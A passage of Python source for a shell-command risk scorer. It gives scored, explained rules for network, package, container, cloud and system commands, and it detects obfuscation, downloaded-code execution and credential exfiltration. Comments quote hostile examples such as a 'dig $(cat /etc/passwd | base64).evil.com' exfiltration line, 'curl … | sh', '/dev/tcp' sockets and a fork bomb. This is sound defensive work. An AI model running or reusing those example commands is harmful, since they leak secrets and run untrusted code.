    # mail, sendmail, mutt: data leaves by e-mail
    "mail": (Row(50, "sends e-mail"),),
    "ssh": (
        Row(40, "connects to a remote host"),  # default; a remote command is judged as well
        # -R/-L/-D: tunnels through the machine
        Row(50, "opens an SSH tunnel", opt("-R -L -D -w")),
        # ssh -V prints the version
        Row(0, "", opt("-V")),
    ),
    # scp, sftp: files cross to another host
    "scp": (Row(50, "copies files to or from a remote host"),),
    "rsync": (
        Row(25, "copies files (may overwrite)"),  # default: local copy
        # host:path, host::module, rsync://
        Row(50, "copies files to or from a remote host", lambda c: c.arg_matching(_REMOTE_PATH)),
        # --delete removes whatever the source lacks
        Row(60, "rsync --delete removes files at the destination", matches(r"^--delete")),
        # rsync x /usr/
        Row(90, "copies into a system directory", dest(*_SYS)),
        # rsync x ~/ or ../
        Row(60, "copies files outside the workspace", dest(*NON_WORKSPACE_WRITE, STARTUP)),
    ),
    "openssl": (
        Row(10, "runs an OpenSSL tool"),  # default: hashes, keys, certificates
        # s_client: a TLS connection to anywhere
        Row(40, "opens a TLS connection", sub("s_client s_server s_time")),
    ),
}

# Interpreters: running a program is running arbitrary code, unless it is the project's checks.
_INTERPRETER_ROWS = (
    # ruby x.rb, php -r …, java -jar x.jar
    Row(35, "runs a program in an interpreter", no(opt("-v --version -version"))),
    # a script from /tmp or elsewhere
    Row(50, "runs a script from outside the workspace", _script_outside),
)
_SHELL_ROWS = (
    # bash script.sh (a -c string is parsed and judged instead)
    Row(35, "runs a shell script", _script),
    # bash /tmp/x.sh
    Row(50, "runs a script from outside the workspace", _script_outside),
    # bare `bash`: reads commands from somewhere we cannot see
    Row(35, "starts an interactive shell", _interactive_shell),
)
RUNTIME_RULES: dict[str, tuple[Row, ...]] = {
    "python": (  # python, python3, python3.11, pypy
        # python x.py, python -c …
        Row(35, "runs a Python program",
            no(any_of(_PY_CHECKS, _PY_HARMLESS, _VERSION, opt("-h --help")))),
        # python -m pytest/mypy/unittest
        Row(5, "runs the project's tests or linters", _PY_CHECKS),
        # python -m venv .venv
        Row(15, "creates a virtual environment", _py_module_in("venv", "virtualenv")),
        # python -m pip install …
        Row(40, "installs Python packages",
            _pip_module_installs),
        # python -m http.server: listens on the network
        Row(30, "starts a web server", _py_module_in("http")),
        # python /tmp/x.py
        Row(50, "runs a script from outside the workspace", _script_outside),
    ),
    "node": (  # node, nodejs
        # node x.js, node -e …
        Row(35, "runs a JavaScript program", no(opt("-v --version -h --help --test"))),
        # node --test: the built-in test runner
        Row(5, "runs the project's tests", opt("--test")),
        # node /tmp/x.js
        Row(50, "runs a script from outside the workspace", _script_outside),
    ),
    "perl": (
        Row(35, "runs a Perl program"),  # default: perl -e, perl -pi -e
        Row(50, "runs a script from outside the workspace", _script_outside),  # perl /tmp/x.pl
        Row(0, "", _VERSION),  # perl -v
    ),
    "deno": (
        Row(35, "runs a Deno program"),  # default: deno run
        Row(5, "runs the project's tests or linters", sub("test lint check fmt")),
    ),
    **dict.fromkeys(
        ("ruby", "php", "lua", "rscript", "julia", "tclsh", "pwsh", "powershell", "java"),
        _INTERPRETER_ROWS,
    ),
    **dict.fromkeys(tuple(SHELLS), _SHELL_ROWS),
    "source": (  # source, .
        # runs in this shell: can change anything about it
        Row(30, "runs a script in the current shell", no(_ACTIVATE)),
        # . .venv/bin/activate: the usual thing to source
        Row(5, "activates a virtual environment", _ACTIVATE),
        # source /tmp/x.sh
        Row(50, "runs a script from outside the workspace", target(*_NOT_WORKSPACE, TEMP)),
    ),
    # eval 'a b': the string is parsed and judged too; eval itself hides intent
    "eval": (Row(25, "eval runs a string as shell code"),),
}

# Package managers and build tools: installing runs other people's install scripts.
PACKAGE_RULES: dict[str, tuple[Row, ...]] = {
    "pip": (  # pip, pip3, pipx, poetry, pdm, conda
        Row(25, "runs a package-manager command"),  # default
        Row(0, "", _PIP_READ),  # pip list/show/freeze
        Row(40, "installs Python packages", _PIP_INSTALL),  # setup scripts run
        Row(35, "removes Python packages", sub("uninstall remove")),
    ),
    "npm": (  # npm, yarn, pnpm, bun
        Row(25, "runs a package-manager command"),  # default
        # npm test, npm run lint/build/typecheck
        Row(5, "runs the project's tests or builds", _npm_script_check),
        # npm run deploy, yarn start: whatever package.json says
        Row(25, "runs a package.json script", _npm_runs_other_script),
        # npm run postinstall: install hooks, the usual supply-chain entry
        Row(45, "runs a package's install lifecycle script",
            lambda c: _npm_script(c) in _LIFECYCLE),
        # npm install, npm ci, yarn add, bare yarn
        Row(40, "installs packages (runs their install scripts)",
            any_of(sub(*_NPM_INSTALL), _bare_yarn)),
        # npm i -g: changes the machine, not the project
        Row(50, "installs packages globally",
            _NPM_GLOBAL),
        # npm exec x, pnpm dlx x: downloads x if absent
        Row(45, "downloads and runs a package", all_of(_NPM_RUNNERS, no(_routine_sub2))),
        # pnpm exec tsc: a known project tool
        Row(10, "runs a project tool", all_of(_NPM_RUNNERS, _routine_sub2)),
        # publish, login, token: changes the registry
        Row(60, "publishes a package",
            sub("publish unpublish deprecate dist-tag owner token adduser login")),
        # uninstall, prune
        Row(30, "removes packages", sub("uninstall remove rm un unlink prune")),
        # init, version, config
        Row(20, "changes the package manifest or cache",
            sub("init cache version link pkg set config")),
        # ls, outdated, view, audit …
        Row(0, "", sub(*_NPM_READ)),
    ),
    "npx": (  # npx, pnpx, bunx, uvx
        Row(45, "downloads and runs a package"),  # default: fetched from the registry if absent
        Row(10, "runs a project tool through npx", lambda c: _is_routine_tool(c.sub)),
    ),
    "apt-get": (  # apt-get, apt, aptitude
        Row(25, "runs the system package manager"),  # default
        Row(0, "", sub("list search show policy depends rdepends changelog")),
        Row(50, "installs system packages", _ANY_INSTALL),  # maintainer scripts run as root
        Row(30, "refreshes system package lists", sub("update check-update makecache")),
        Row(60, "removes system packages", sub("remove purge autoremove erase rm")),
    ),
    "dnf": (  # dnf, yum, zypper
        Row(25, "runs the system package manager"),  # default
        Row(50, "installs system packages", _ANY_INSTALL),
        Row(60, "removes system packages", sub("remove erase autoremove rm")),
        Row(0, "", sub("list search info repolist provides")),
    ),
    # other system package managers: any use changes the machine
    **dict.fromkeys(
        ("pacman", "apk", "snap", "flatpak", "port", "emerge", "nix-env", "pkg", "pkg_add",
         "choco", "scoop", "winget"),
        (Row(50, "runs the system package manager"),),
    ),
    "brew": (
        Row(25, "runs Homebrew"),  # default
        Row(45, "installs packages with Homebrew", _ANY_INSTALL),
        Row(40, "removes packages with Homebrew", sub("uninstall remove rm cleanup untap")),
        Row(0, "", sub("list ls info search outdated deps doctor config leaves")),
    ),
    # gem, composer, bundle, cpan …: language package managers
    **dict.fromkeys(
        ("gem", "composer", "bundle", "cpan", "cpanm", "opam", "stack", "cabal", "nuget"),
        (
            Row(25, "runs a language package manager"),  # default
            Row(40, "installs packages", _ANY_INSTALL),
            Row(0, "", sub("list show info search outdated exec --version")),
        ),
    ),
    "cargo": (
        Row(25, "runs a cargo command"),  # default
        # test, check, build, clippy, fmt: the project's own build
        Row(5, "builds or tests the project",
            sub("test check build clippy fmt doc bench",
                "tree metadata nextest --version version fix")),
        Row(25, "runs the project's program", sub("run r")),
        Row(40, "installs packages", sub("install")),  # builds and installs someone's crate
        Row(30, "changes dependencies", sub("add remove rm update upgrade")),
        Row(60, "publishes a crate", sub("publish yank login owner")),
    ),
    "go": (
        Row(25, "runs a go command"),  # default
        Row(5, "builds or tests the project", sub("test build vet fmt list version env doc help")),
        Row(25, "runs the project's program or generators", sub("run generate")),
        Row(40, "installs packages", sub("install get")),
        Row(20, "changes module files", sub("mod work clean")),
    ),
    "mvn": (  # mvn, mvnw
        Row(20, "runs a Maven goal"),  # default
        Row(10, "builds or tests the project",
            _maven_checks),
        Row(60, "deploys or releases artifacts", matches(r"^(deploy|release:)")),
    ),
    "gradle": (  # gradle, gradlew
        Row(20, "runs a Gradle task"),  # default
        Row(10, "builds or tests the project",
            _gradle_checks),
        Row(60, "publishes artifacts", matches(r"^publish")),
    ),
    "dotnet": (
        Row(25, "runs a dotnet command"),  # default
        Row(5, "builds or tests the project",
            sub("build test format restore --version --info list")),
        Row(25, "runs the project's program", sub("run watch")),
        Row(40, "installs packages or tools",
            any_of(all_of(sub("add"), sub2("package")), sub("tool"))),
        Row(60, "publishes packages", all_of(sub("nuget"), sub2("push delete"))),
    ),
    "uv": (
        Row(25, "runs uv (may install packages or run scripts)"),  # default
        Row(5, "runs the project's tests or linters", all_of(sub("run"), _uv_runs_check)),
        Row(40, "installs Python packages",
            any_of(sub("add sync lock tool"), all_of(sub("pip"), sub2("install sync")))),
        Row(0, "",
            any_of(sub("--version version tree"), all_of(sub("pip"), sub2("list show freeze")))),
    ),
    "make": (
        # make, make test/lint/build: the project's own recipes
        Row(10, "runs the project's build or checks", _makes_checks),
        # other targets: whatever the Makefile says
        Row(20, "runs a make target", no(_makes_checks)),
        # make install writes outside the workspace
        Row(45, "installs with make", matches(r"^(install|uninstall)$")),
        # make deploy/publish: leaves the machine
        Row(50, "deploys or publishes with make",
            matches(r"^(deploy|release|publish|push|upload)")),
    ),
    "ruff": (
        Row(5, "runs the project's tests or linters"),  # default: ruff check
        # ruff format, ruff check --fix rewrite files
        Row(10, "formats or fixes files in the workspace",
            any_of(all_of(sub("format"), no(opt("--check --diff"))), opt("--fix"))),
    ),
}

# Containers, clusters and clouds: reading is cheap, changing shared infrastructure is not.
INFRA_RULES: dict[str, tuple[Row, ...]] = {
    "docker": (  # docker, podman, nerdctl
        Row(25, "runs a container-engine command"),  # default: build, pull, tag …
        Row(5, "reads container state",
            sub("ps images logs inspect version info stats top history",
                "diff port events search --version")),
        Row(40, "starts a container", sub("run create start")),
        # --privileged: root on the host
        Row(85, "starts a privileged container", opt("--privileged")),
        # -v /:/host, -v /var/run/docker.sock:…: the host itself
        Row(90, "mounts the host's root or system directories into a container",
            _docker_mounts(ROOT, SYSTEM, DEVICE, ANCESTOR)),
        # -v ~:/home, -v ~/.ssh:…
        Row(75, "mounts home directories or credentials into a container",
            _docker_mounts(HOME, CREDENTIAL, STARTUP, DOTFILE)),
        # --pid=host, --net=host, --cap-add
        Row(60, "shares the host's namespaces or capabilities with a container",
            matches(r"^--(pid|net|network|ipc|uts|userns)=host$|^--cap-add(=|$)|^--security-opt")),
        Row(45, "runs a command inside a container", sub("exec attach cp")),
        Row(45, "deletes containers, images or volumes",
            any_of(sub("rm rmi kill prune"), sub2("rm prune remove"))),
        Row(60, "prunes all unused Docker data", all_of(sub("system"), sub2("prune"))),
        Row(50, "pushes an image or logs in to a registry", sub("push login")),
    ),
    "compose": (  # docker compose, docker-compose
        Row(30, "runs docker compose"),  # default: up, build …
        Row(5, "reads compose state", sub("ps logs config ls images top version")),
        Row(50, "docker compose down -v deletes volumes", all_of(sub("down"), opt("-v --volumes"))),
        Row(45, "runs a command inside a container", sub("exec run")),
    ),
    "kubectl": (
        Row(50, "changes a Kubernetes cluster"),  # default: apply, patch, scale …
        Row(5, "reads cluster state",
            sub("get describe logs top explain version api-resources api-versions",
                "cluster-info diff auth config wait")),
        Row(70, "deletes Kubernetes resources", sub("delete drain cordon taint")),
        Row(50, "runs a command inside a pod", sub("exec attach cp debug run port-forward")),
        Row(85, "deletes all resources or a namespace",
            all_of(sub("delete"), any_of(opt("--all -A --all-namespaces"), sub2("namespace ns")))),
    ),
    "helm": (
        Row(50, "changes a Kubernetes cluster with helm"),  # default: install, upgrade
        Row(5, "reads helm state",
            sub("list ls status get template lint show search history version env dependency")),
        Row(70, "uninstalls a helm release", sub("uninstall delete del un")),
        Row(20, "changes helm repositories", sub("repo")),
    ),
    "terraform": (  # terraform, tofu, pulumi
        Row(40, "runs infrastructure tooling"),  # default
        Row(10, "plans or checks infrastructure",
            sub("plan validate fmt show output version providers graph",
                "preview init console stack whoami")),
        Row(70, "applies infrastructure changes", sub("apply up import refresh")),
        Row(85, "destroys infrastructure", sub("destroy")),
        Row(60, "edits infrastructure state",
            all_of(sub("state"), sub2("rm mv push replace-provider"))),
    ),
    "aws": (
        Row(40, "calls a cloud API"),  # default
        Row(10, "reads from the cloud", _cloud_read_aws),  # describe-*, list-*, s3 ls
        Row(75, "deletes cloud resources", _cloud_deletes),  # delete-*, terminate-*, s3 rm
        Row(85, "deletes cloud resources recursively",
            all_of(_cloud_deletes, opt("--recursive --force"))),
    ),
    "cloud": (  # gcloud, az, doctl, heroku, vercel …
        Row(40, "calls a cloud API"),  # default
        Row(10, "reads from the cloud", _cloud_reads_only),
        Row(60, "deploys to the cloud", matches(r"^deploy$")),
        Row(75, "deletes cloud resources", _cloud_deletes),
    ),
}

# The machine itself: privileges, processes, services, users, kernel, firewall, history.
SYSTEM_RULES: dict[str, tuple[Row, ...]] = {
    # sudo, doas, pkexec, runuser: the wrapped command is judged too
    "sudo": (Row(80, "runs a command with root privileges"),),
    # su: a root shell unless told otherwise
    "su": (Row(80, "switches to another user (root by default)"),),
    # chroot: needs root; runs a command in another system tree
    "chroot": (Row(80, "runs a command in another root directory"),),
    "kill": (
        Row(30, "kills a process"),  # default: kill PID
        # -9 leaves no chance to clean up
        Row(40, "kill -9 gives the process no chance to clean up", _KILL_9),
        # kill -1: every process we may signal; kill 1: init
        Row(95, "kills every process (kill -1) or init", _kill_targets_all),
        Row(0, "", opt("-l -L")),  # kill -l lists signals
    ),
    # killall, killall5: every process of that name
    "killall": (Row(50, "kills processes by name"),),
    # pkill -f: a pattern can match more than intended
    "pkill": (Row(50, "kills processes by pattern"),),
    # shutdown, reboot, halt, poweroff
    "shutdown": (Row(95, "shuts down or reboots the machine"),),
    # init 0 / init 6, telinit
    "init": (Row(95, "changes the system run level"),),
    "telinit": (Row(95, "changes the system run level"),),
    "systemctl": (
        Row(60, "starts, stops or changes system services"),  # default
        Row(5, "reads service state",
            sub("status show list-units list-unit-files list-timers list-sockets is-active",
                "is-enabled is-failed cat list-dependencies --version")),
        Row(95, "shuts down or reboots the machine",
            sub("reboot poweroff halt kexec emergency rescue suspend hibernate")),
    ),
    "service": (
        Row(60, "starts or stops a system service"),  # default
        Row(5, "reads service state", any_of(sub2("status"), opt("--status-all"))),
    ),
    "launchctl": (
        Row(60, "loads or changes launchd jobs"),  # default: persistence on macOS
        Row(5, "reads launchd state", sub("list print print-disabled blame version")),
    ),
    "crontab": (
        Row(60, "edits scheduled jobs"),  # default: persistence
        Row(70, "removes all scheduled jobs", opt("-r")),
        Row(5, "lists scheduled jobs", _SCHEDULED_LIST),
    ),
    # at, batch: runs later, unseen
    "at": (Row(55, "schedules a command to run later"),),
    # useradd, userdel, usermod, passwd, chpasswd, visudo …
    "useradd": (Row(80, "changes user accounts or passwords"),),
    "mount": (
        Row(80, "mounts or unmounts file systems"),  # default
        Row(0, "", lambda c: not c.args or c.args in (("-l",), ("-v",))),  # lists mounts
    ),
    "umount": (Row(80, "mounts or unmounts file systems"),),
    "swapoff": (Row(70, "changes swap space"),),
    "swapon": (Row(70, "changes swap space"),),
    "iptables": (  # iptables, nft, ufw, firewall-cmd, pfctl
        Row(70, "changes firewall rules"),  # default
        Row(90, "flushes or disables the firewall", _FW_FLUSH),  # opens the machine up
        Row(10, "lists firewall rules", _FW_LIST),
    ),
    # modprobe, insmod, rmmod, kextload: code in the kernel
    "modprobe": (Row(90, "loads or unloads kernel modules"),),
    "sysctl": (
        Row(70, "changes kernel parameters", _SYSCTL_WRITE),
        Row(5, "reads kernel parameters", no(_SYSCTL_WRITE)),
    ),
    # csrutil disable: turns off System Integrity Protection
    "csrutil": (Row(90, "changes System Integrity Protection"), Row(5, "", sub("status"))),
    "spctl": (
        Row(10, "reads Gatekeeper state"),  # default
        Row(90, "changes Gatekeeper protection", matches(r"disable|--add")),
    ),
    # setenforce 0: turns off SELinux
    "setenforce": (Row(90, "changes SELinux enforcement"),),
    "defaults": (
        Row(50, "changes macOS settings", sub("write delete import rename")),
        Row(0, "", sub("read read-type domains find export")),
    ),
    "pmset": (Row(60, "changes power management settings"), Row(0, "", opt("-g"))),
    "nvram": (Row(80, "changes firmware variables"), Row(0, "", opt("-p -x"))),
    "bless": (Row(90, "changes the boot volume"),),
    "chattr": (Row(60, "changes file attributes (immutable, append-only)"),),
    "setfacl": (Row(50, "changes file access control lists"),),
    "tune2fs": (Row(70, "changes file system parameters"),),
    "fsck": (Row(70, "checks and repairs a file system"),),
    "e2fsck": (Row(70, "checks and repairs a file system"),),
    "hdparm": (Row(70, "changes disk parameters"),),
    "losetup": (Row(60, "changes loop devices"),),
    # ip addr/route show are reads; set/add/del change the network
    "ip": (Row(0, ""), Row(70, "changes network configuration", _IP_CHANGE)),
    "ifconfig": (Row(70, "changes network configuration", lambda c: len(c.operands) > 1),),
    "route": (Row(60, "changes network routes", sub("add del delete change flush")),),
    "hostname": (Row(60, "changes the host name", _has_operands),),
    "date": (Row(60, "sets the system clock", opt("-s --set")),),
    "hwclock": (Row(60, "sets the hardware clock", opt("-w --systohc --set")),),
    # history -c: hides what was run
    "history": (Row(60, "clears shell history (hides activity)", opt("-c -d -w -r -a")),),
    "unset": (
        Row(60, "stops the shell recording history", arg("HISTFILE HISTSIZE HISTFILESIZE")),
        Row(40, "unsets PATH", arg("PATH")),
    ),
    # set +o history
    "set": (Row(60, "stops the shell recording history", all_of(arg("+o"), arg("history"))),),
    # alias ls='rm -rf': later commands are not what they say
    "alias": (Row(45, "defines an alias (changes what a command name runs)", matches(r"=")),),
    # cd outside: later relative paths point elsewhere
    "cd": (Row(30, "changes directory outside the workspace", _CD_AWAY),),
}

RULES: dict[str, tuple[Row, ...]] = {
    **FILE_RULES,
    **GIT_RULES,
    **NETWORK_RULES,
    **RUNTIME_RULES,
    **PACKAGE_RULES,
    **INFRA_RULES,
    **SYSTEM_RULES,
}
# fmt: on


# Rows that apply to every command whatever its name.
GENERIC: tuple[Row, ...] = (
    # a name like $CMD or ${RM} cannot be checked: it could be anything
    Row(60, "the command name comes from a variable", flagged("dynamic-name")),
    # `sh -c "$x"`, `eval "$cmd"`: the code itself is only known at run time
    Row(70, "runs shell code known only at run time", flagged("dynamic-code")),
    # 'sudo', r\m, s''h: quoting a command name only serves to dodge filters
    Row(30, "quoted or escaped command name (a common obfuscation)", flagged("quoted-name")),
    # $'\x72\x6d' spells rm: hex escapes hide what a command says
    Row(30, "hex-escaped text (a common obfuscation)", flagged("hex-escape")),
    # the value of $VAR is unknown here; rm -rf "$DIR/" is the classic disaster
    Row(25, "uses a variable whose value is known only at run time", _variables),
    # dig $(cat /etc/passwd | base64).evil.com: exfiltration through arguments
    Row(70, "sends command output over the network", _network_substitution),
    # base64 -d | sh, echo … | python: text becomes code
    Row(70, "pipes text into an interpreter", _piped_into_interpreter),
    # curl … | sh: remote code runs unseen
    Row(95, "pipes a download into an interpreter", _download_piped_into_interpreter),
    # bash <(curl …), sh -c "$(curl …)"
    Row(95, "runs code downloaded from the network", _download_fed_to_interpreter),
    # output redirections, by where they write
    Row(100, "writes to a disk device", _writes(DEVICE)),
    Row(90, "writes into a system path", _writes(ROOT, SYSTEM)),
    Row(85, "writes to a shell startup file", _writes(STARTUP)),
    Row(90, "overwrites a credential file", _writes(CREDENTIAL)),
    Row(60, "writes outside the workspace", _writes(HOME, ANCESTOR, OUTSIDE, DOTFILE)),
    Row(30, "writes to a temporary directory", _writes(TEMP)),
    Row(25, "writes a file via redirection", _writes(WORKSPACE, WORKSPACE_ALL, GLOB, DYNAMIC)),
    # echo $API_TOKEN: secrets end up in logs and transcripts
    Row(40, "prints a secret-looking environment variable", _prints_secret),
    # exec 3<>/dev/tcp/host/port: bash's built-in network sockets
    Row(85, "opens a network connection through /dev/tcp", _dev_tcp),
)
# Rows about a program named by its path rather than by a bare name.
PROGRAM_PATH: dict[str, Row] = {
    WORKSPACE: Row(35, "runs a program from the workspace"),
    GLOB: Row(35, "runs a program from the workspace"),
    TEMP: Row(50, "runs a program from a temporary directory"),
    OUTSIDE: Row(50, "runs a program from outside the workspace"),
    DOTFILE: Row(50, "runs a program from outside the workspace"),
    HOME: Row(50, "runs a program from outside the workspace"),
    ANCESTOR: Row(50, "runs a program from outside the workspace"),
    SYSTEM: Row(40, "runs a program from an unusual system directory"),
}
# Variables whose new value changes what later commands do, by name pattern.
_ASSIGNMENT_TABLE: tuple[tuple[str, int, str], ...] = (
    # injects a library into every program started afterwards
    (r"LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_\w+", 80, "sets a variable that injects code"),
    # which `ls` or `git` runs is decided by PATH
    (r"PATH", 50, "changes PATH (which programs commands run)"),
    # the shell runs these itself
    (r"PROMPT_COMMAND|BASH_ENV|ENV|ZDOTDIR|PS4|BASH_FUNC_\w+", 60, "sets code the shell runs"),
    # word splitting rules: the basis of many injection tricks
    (r"IFS", 50, "changes IFS (how the shell splits words)"),
    # hides what was run
    (r"HIST(FILE|SIZE|FILESIZE|CONTROL|IGNORE)", 60, "changes shell history (hides activity)"),
    # names a program git, ssh or an editor will start
    (
        r"GIT_SSH(_COMMAND)?|GIT_EXEC_PATH|(GIT_|SSH_)?ASKPASS|(GIT_)?EDITOR|VISUAL|(GIT_)?PAGER"
        r"|GIT_CONFIG_\w+",
        40,
        "sets a variable that names a program to run",
    ),
    # loads extra code into interpreters
    (
        r"PYTHON(PATH|STARTUP|HOME)|NODE_(OPTIONS|PATH)|PERL5(OPT|LIB)|RUBY(OPT|LIB)"
        r"|_?JAVA_(TOOL_)?OPTIONS|CLASSPATH",
        40,
        "sets a variable that loads extra code into interpreters",
    ),
    # turns off certificate checks: traffic can be intercepted
    (
        r"NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY|PYTHONHTTPSVERIFY|CURL_CA_BUNDLE"
        r"|SSL_CERT_FILE|REQUESTS_CA_BUNDLE",
        50,
        "weakens TLS certificate checks",
    ),
    # routes traffic through another host
    (r"(?i)(http|https|all|ftp)_proxy", 30, "routes network traffic through a proxy"),
)
ASSIGNMENTS: tuple[tuple[re.Pattern[str], Row], ...] = tuple(
    (re.compile(pattern), Row(score, reason)) for pattern, score, reason in _ASSIGNMENT_TABLE
)
UNKNOWN_SCORE = 40
# Names of commands people rely on: redefining one as a function or alias is a trap.
_WELL_KNOWN = READ_ONLY | frozenset(ROUTINE) | frozenset(RULES) | frozenset(_ALIASES)

_UNUSUAL_SPACE = re.compile("[\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]")
_INVISIBLE = re.compile("[\u200b-\u200d\u2060\ufeff\u202a-\u202e\u2066-\u2069\u00ad]")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)")


def _line_findings(text: str, parsed: ParsedLine, env: _Env) -> Iterator[Finding]:
    """Findings about the line as a whole rather than one command."""
    if not parsed.parse_ok:
        yield Finding(UNPARSEABLE_SCORE, "the command cannot be parsed reliably")
    if _UNUSUAL_SPACE.search(text):
        yield Finding(70, "unusual Unicode spaces (can disguise a command)")
    if _INVISIBLE.search(text):
        yield Finding(75, "invisible Unicode characters (can disguise a command)")
    if _CONTROL.search(text):
        yield Finding(60, "control characters (can hide text on a terminal)")
    yield from _function_findings(parsed)
    yield from _exfiltration(parsed, env)
    yield from _runs_download(parsed, env)


def _runs_download(parsed: ParsedLine, env: _Env) -> Iterator[Finding]:
    """`wget x.sh && sh x.sh`, `curl -o /tmp/a URL; /tmp/a`: remote code, one step removed."""
    downloaded: set[str] = set()
    for simple in parsed.commands:
        view = _Cmd(simple, env)
        if downloaded and _executed_paths(view) & downloaded:
            yield Finding(95, "runs a file it just downloaded")
            return
        downloaded.update(_downloaded_paths(view))
        env = env.after(simple)


def _downloaded_paths(c: _Cmd) -> set[str]:
    """Files a curl/wget writes: -o/-O values, `> file`, or the URL's last segment."""
    if c.name == "curl":
        names = _option_values(c.args, ("-o", "--output"))
        if c.has("-O", "--remote-name", "--remote-name-all"):
            names += [_url_file(u) for u in c.operands]
    elif c.name == "wget":
        names = _option_values(c.args, ("-O", "--output-document"))
        names = names or [_url_file(u) for u in c.operands]
    else:
        return set()
    names += [r.target for r in c.sc.redirects if _is_write(r.op, r.target)]
    return {c.env.absolute(n) for n in names if n and n != "-"}


def _url_file(url: str) -> str:
    return url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]


def _executed_paths(c: _Cmd) -> set[str]:
    paths = set()
    if c.words and "/" in c.words[0]:
        paths.add(c.env.absolute(c.words[0]))
    if c.name in INTERPRETERS and c.operands:
        paths.add(c.env.absolute(c.operands[0]))
    return paths


def _function_findings(parsed: ParsedLine) -> Iterator[Finding]:
    for function in parsed.functions:
        marker = f"function:{function.name}"
        for command in parsed.commands:
            forks = any(
                c.startswith("pipeline-after:") or c == "background" for c in command.context
            )
            if marker in command.context and command.words[:1] == (function.name,) and forks:
                yield Finding(100, "fork bomb (a function that starts copies of itself)")
        if _canonical(command_name(function.name)) in _WELL_KNOWN:
            yield Finding(50, f"redefines the '{function.name}' command")
        else:
            yield Finding(20, "defines a shell function")


def _exfiltration(parsed: ParsedLine, env: _Env) -> Iterator[Finding]:
    """Secrets and the network in one line: what was read can be sent."""
    views = [_Cmd(sc, env) for sc in parsed.commands if sc.words or sc.redirects]
    if not any(_talks_to_network(v) for v in views):
        return
    if any(v.name not in ("rm", "shred") and _mentions_credential(v) for v in views):
        yield Finding(95, "reads credentials and uses the network in one command")
    if any(_dumps_environment(v) for v in views):
        yield Finding(90, "sends environment variables (often secrets) over the network")
    if any(_SECRET_VAR.search(name) for v in views for name in v.sc.variables):
        yield Finding(60, "sends a secret environment variable over the network")


def _talks_to_network(c: _Cmd) -> bool:
    if c.name == "git":
        return c.sub in _GIT_NETWORK
    if c.name == "rsync":
        return c.arg_matching(_REMOTE_PATH)
    return c.name in NETWORK


def _dumps_environment(c: _Cmd) -> bool:
    """`env`, `printenv`, bare `set`/`export -p`: every variable, tokens included."""
    if c.name == "env":
        return not c.sc.wraps
    return c.name == "printenv" or (c.name in ("set", "export") and not c.operands)


def _command_findings(sc: SimpleCommand, env: _Env) -> Iterator[Finding]:
    view = _Cmd(sc, env)
    yield from _assignment_findings(sc)
    yield from _rows(GENERIC, view)
    if not sc.words:
        return
    if "dynamic-name" not in sc.flags:
        yield from _name_findings(view)
    elif len(sc.words) > 1 and 1 not in sc.dynamic and _is_known(sc.words[1]):
        # `$SUDO rm -rf /`: the rest may itself be a command; judge it as one too
        yield from _name_findings(_Cmd(sc, env, start=1))


def _is_known(word: str) -> bool:
    name = _canonical(command_name(word))
    return name in RULES or name in ROUTINE or name in READ_ONLY


def _name_findings(view: _Cmd) -> Iterator[Finding]:
    """Rows chosen by the command's name, plus where its program lives."""
    where = _program_path_class(view)
    if where is not None and where in PROGRAM_PATH:
        yield _finding(PROGRAM_PATH[where])
    if view.name not in OWN_CREDENTIAL_ROWS and _mentions_credential(view):
        if view.name in METADATA:
            yield Finding(25, "looks at credential files")
        else:
            yield Finding(60, "reads a credential file")
    rows = RULES.get(view.name)
    if rows is not None:
        yield from _rows(rows, view)
    routine = ROUTINE.get(view.name)
    if routine is not None:
        yield Finding(*routine)
    known = rows is not None or routine is not None or view.name in READ_ONLY
    known = known or view.words[0] in view.env.functions
    if not known and where not in PROGRAM_PATH:
        yield Finding(UNKNOWN_SCORE, f"unknown command '{_short(view.name)}'")


def _short(name: str) -> str:
    return name if len(name) <= 30 else name[:27] + "..."


def _assignment_findings(sc: SimpleCommand) -> Iterator[Finding]:
    for name, _value in sc.assignments:
        for pattern, row in ASSIGNMENTS:
            if pattern.fullmatch(name):
                yield _finding(row)
                break


def _rows(rows: Iterable[Row], view: _Cmd) -> Iterator[Finding]:
    """Findings of every matching row; the default rows only when nothing else matched."""
    matched = False
    for row in rows:
        if row.when is not None and row.when(view):
            matched = True
            yield _finding(row)
    if not matched:
        yield from (_finding(row) for row in rows if row.when is None)


def _finding(row: Row) -> Finding:
    return Finding(row.score, row.reason)
